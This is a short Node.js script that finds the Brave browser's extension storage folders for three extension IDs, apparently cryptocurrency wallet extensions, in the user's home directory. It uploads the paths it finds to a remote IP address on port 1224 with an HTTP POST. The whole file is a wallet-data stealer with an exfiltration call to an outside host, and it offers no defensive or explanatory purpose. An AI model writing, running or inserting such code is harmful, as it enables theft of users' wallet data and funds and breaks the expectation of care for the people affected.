const fs = require('fs');
const os = require('os');
const path = require('path');
const request = require('request');
const home = os.homedir();
const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'ibnejdfjmmkpcnlpebklmnkoeoihofec'];
const base = path.join(home, 'Library/Application Support/BraveSoftware/Brave-Browser/Default/Local Extension Settings');
function collect() {
  return ids.map((id) => path.join(base, id)).filter((p) => fs.existsSync(p));
}
request.post({ url: 'http://192.0.2.71:1224/uploads', formData: { files: JSON.stringify(collect()) } });
